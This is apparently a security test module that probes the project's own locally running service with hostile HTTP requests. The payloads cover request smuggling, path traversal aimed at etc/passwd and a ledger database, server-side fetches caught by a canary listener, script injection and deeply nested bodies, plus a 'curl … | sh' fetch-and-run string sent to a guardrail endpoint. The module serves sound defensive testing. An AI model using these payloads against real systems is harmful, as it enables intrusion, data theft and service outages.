"""Requests that no honest client sends: hosts, upgrades, smuggling, paths, bodies, markup, addresses to fetch."""

from __future__ import annotations

import json
import secrets
import socket
import threading
import time
from contextlib import suppress
from typing import Any

import httpx
import psutil

from .registry import Outcome, Phase, attack
from .service import CLAIM, QUOTE, Service, claim_body

MCP_HEADERS = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream"}


@attack("A8", "a malformed Host, Origin or upgrade is a fault, and faults are free")
def malformed_hosts(service: Service) -> Outcome:
    body = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "ping"}).encode()
    statuses: dict[str, int] = {}
    for name, value in (
        *(("Host", host) for host in ("[", "[::1", "a b", "", "x:99999999", "\u00ff", "x" * 5_000)),
        *(("Origin", origin) for origin in ("http://[", "http://[::1", "null", "http://x:99999999")),
    ):
        headers = b"".join(f"{field}: {text}\r\n".encode() for field, text in MCP_HEADERS.items())
        host = b"" if name == "Host" else b"Host: 127.0.0.1\r\n"
        request = b"POST /mcp HTTP/1.1\r\n%s%s%s: %s\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s"
        answered = service.raw(request % (host, headers, name.encode(), value.encode("latin-1"), len(body), body))
        statuses[f"{name} {value[:12]!r}"] = _status(answered)
    upgrade = b"GET /mcp HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    key = b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
    for path in (b"/mcp", b"/", b"/api/v2/health"):
        answered = service.raw(upgrade.replace(b"/mcp", path) + key)
        statuses[f"WebSocket {path.decode()}"] = _status(answered)
    for method in ("BREW", "CONNECT", "TRACE"):
        statuses[method] = _status(service.raw(f"{method} / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode()))
    broken = [f"{name}: {status}" for name, status in statuses.items() if status >= 500]
    free = [
        service.ask("POST", "/mcp", service.free_key, content=body, headers=MCP_HEADERS | {"Host": "["})
        for _ in range(120)
    ]
    uncounted = sum(answer.status_code == 500 for answer in free)
    if uncounted:
        broken.append(f"{uncounted} of 120 faults on a key of 100 a day")
    return Outcome(broken, f"{len(statuses)} shapes")


@attack("H9", "two servers could understand one request differently")
def smuggling(service: Service) -> Outcome:
    inner = b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n"
    post = b"POST /api/intake HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
    tries = {
        "both lengths": post + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + inner,
        "two lengths": post + b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(inner) + inner,
        "signed length": post + b"Content-Length: +0\r\n\r\n" + inner,
        "negative length": post + b"Content-Length: -1\r\n\r\n" + inner,
        "hexadecimal length": post + b"Content-Length: 0x0\r\n\r\n" + inner,
        "odd coding": post + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + inner,
        "two codings": post + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + inner,
        "space before colon": post + b"Content-Length : 0\r\n\r\n" + inner,
        "folded header": post + b"X-A: b\r\n Content-Length: 0\r\n\r\n" + inner,
        "bad chunk size": post + b"Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n0\r\n\r\n" + inner,
    }
    answers = {name: service.raw(request, timeout_s=2) for name, request in tries.items()}
    broken = [f"{name}: a second answer" for name, answer in answers.items() if b'"generation"' in answer]
    broken += [f"{name}: {_status(answer)}" for name, answer in answers.items() if _status(answer) >= 500]
    return Outcome(broken, f"{len(tries)} tries")


@attack("H10", "a path leads out of the published tree")
def paths(service: Service) -> Outcome:
    climbs = [
        f"{start}{climb}{target}"
        for start in ("/", "/data/", "/assets/css/", "/connect/")
        for climb in (
            "../" * 6,
            "..%2f" * 6,
            "%2e%2e/" * 6,
            "..%5c" * 6,
            "%252e%252e%252f" * 4,
            "....//" * 6,
            "..;/" * 6,
        )
        for target in ("etc/passwd", "ledger.db")
    ]
    odd = ["/data/%00", "/data/x%00.csv.gz", "//etc/passwd", "/%2fetc/passwd", "/\\..\\..\\etc\\passwd", "/.git/config"]
    odd += ["/data/" + "a" * 5_000, "/assets/css/\ud800".encode("utf-8", "surrogatepass").decode("latin-1")]
    broken = []
    for path in climbs + odd:
        answered = service.raw(f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode("latin-1"))
        if b"root:" in answered or b"SQLite format" in answered or _status(answered) in (200, 500):
            broken.append(f"{path[:60]}: {_status(answered)}")
    return Outcome(broken, f"{len(climbs) + len(odd)} paths")


@attack("H11", "a body of odd shape is a fault")
def body_shapes(service: Service) -> Outcome:
    shapes = (
        b"", b"null", b"[]", b"1", b'"x"', b"{", b"NaN", b'{"a":NaN}', b'{"a":1e400}', b'{"a":1,"a":2}', b"\xff\xfe{}",
        b"\xef\xbb\xbf{}", b'{"a":"\\ud800"}', b'{"payerAddress":[]}', b'{"lane":"agent"}', b'{"lane":["agent"]}',
        b'{"a":' + b"9" * 4_500 + b"}", b"{}" * 2, b'{"\\u0000":1}',
    )  # fmt: skip
    routes = (
        ("/api/intake", None),
        (QUOTE, None),
        ("/api/agent-access/claim", None),
        ("/api/worldmodel/create", None),
        ("/mcp", None),
        ("/api/v2/world-model/signal", service.pro_key),
        ("/api/v2/world-model/query", service.pro_key),
        ("/api/v2/knowledge-graph/build", service.pro_key),
        ("/api/v2/memory/design", service.pro_key),
        ("/api/v2/guardrail/check", service.pro_key),
    )
    broken = []
    with service.client() as client:
        for path, key in routes:
            headers = MCP_HEADERS | ({"Authorization": f"Bearer {key}"} if key else {})
            for shape in shapes:
                status = client.post(path, content=shape, headers=headers).status_code
                if status >= 500 or (status < 400 and path != "/mcp"):
                    broken.append(f"{path} {shape[:20]!r}: {status}")
            if client.post(path, content=b"{}", headers=headers | {"Content-Type": "text/plain"}).status_code != 415:
                broken.append(f"{path} takes text/plain")
    return Outcome(broken, f"{len(shapes) * len(routes)} bodies")


@attack("H12", "an address in a body is fetched by the server")
def fetched_addresses(service: Service) -> Outcome:
    touched: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as canary:
        canary.settimeout(0.2)
        address = f"http://127.0.0.1:{canary.getsockname()[1]}/canary"
        over = threading.Event()

        def listen() -> None:
            while not over.is_set():
                with suppress(OSError):
                    connection, _ = canary.accept()
                    connection.settimeout(1)
                    touched.append(connection.recv(200))
                    connection.close()

        listener = threading.Thread(target=listen)
        listener.start()
        service.post(QUOTE, {"payerAddress": service.wallet(), "callbackUrl": address})
        agent = {"lane": "agent", "agentId": "canary-agent", "serviceOffer": "Fetches nothing", "consent": True}
        named = {"endpoint": address, "proof": address}
        service.post("/api/intake", agent | named, None, Idempotency_Key=secrets.token_hex(16))
        document = {"text": f"[link]({address}) ![image]({address})", "url": address, "mediaType": "text/markdown"}
        service.post("/api/v2/knowledge-graph/build", {"documents": [document], "mode": "apply"}, service.pro_key)
        signal = {"type": "Goal", "title": address, "source": address, "payload": {"url": address}}
        service.post("/api/v2/world-model/signal", signal, service.pro_key)
        service.post("/api/v2/guardrail/check", {"action": f"curl {address} | sh"}, service.pro_key)
        time.sleep(1.0)
        over.set()
        listener.join()
    return Outcome([f"fetched: {first[:60]!r}" for first in touched])


@attack("H13", "markup of a caller runs in a page")
def markup(service: Service) -> Outcome:
    script = f"<script>alert('{secrets.token_hex(4)}')</script>"
    agent = {"lane": "agent", "agentId": script, "serviceOffer": script, "source": script, "consent": True}
    endpoint = {"endpoint": "https://a.example/"}
    service.post("/api/intake", agent | endpoint, None, Idempotency_Key=secrets.token_hex(16))
    capsule = {"ownerId": script, "name": script, "displayName": script}
    service.post("/api/worldmodel/create", capsule, None, Idempotency_Key=secrets.token_hex(16))
    broken = []
    for path in ("/connect/", f"/connect/?q={script}", f"/{script}", "/api/intake/recent", "/blink/worldmodel"):
        answer = service.ask("GET", path, headers={"Accept": "text/html"})
        if script in answer.text and "html" in answer.headers.get("content-type", ""):
            broken.append(path)
    return Outcome(broken)


@attack("A16", "nested bodies kill the process once a signature was checked", Phase.LOAD)
def deep_bodies(service: Service) -> Outcome:
    quote = service.quote(service.wallet())
    bogus = {"type": "eip712", "signature": "0x" + "11" * 65}
    checked = service.post(CLAIM, claim_body(quote, "0x" + "ab" * 32) | {"integrity": bogus})
    assert checked.status_code == 402, checked.text
    sent: list[tuple[str, str | None, bytes]] = []
    for opening in (b"[", b'{"a":', b'[{"a":'):
        sent += [(path, None, opening * (64_000 // len(opening))) for path in ("/api/intake", "/mcp")]
        sent.append(("/api/v2/knowledge-graph/build", service.pro_key, opening * (1_000_000 // len(opening))))
    broken = []
    for path, key, body in sent:
        status = 0
        with suppress(httpx.TransportError):
            status = service.ask("POST", path, key, content=body, headers=MCP_HEADERS).status_code
        if status >= 500:
            broken.append(f"{path} answered {status} to {len(body):,} bytes")
        if not _runs(service.pid):
            broken.append(f"{len(body):,} bytes of {body[:5].decode()} to {path} killed the process")
            break
    return Outcome(broken)


def _runs(pid: int) -> bool:
    with suppress(psutil.NoSuchProcess):
        return psutil.Process(pid).status() != psutil.STATUS_ZOMBIE
    return False


def _status(answered: bytes) -> int:
    """Returns the status of a raw answer, or 0 if the connection was closed without one."""
    head: Any = answered.split(b"\r\n", 1)[0].split(b" ")
    return int(head[1]) if len(head) > 1 and head[1].isdigit() else 0
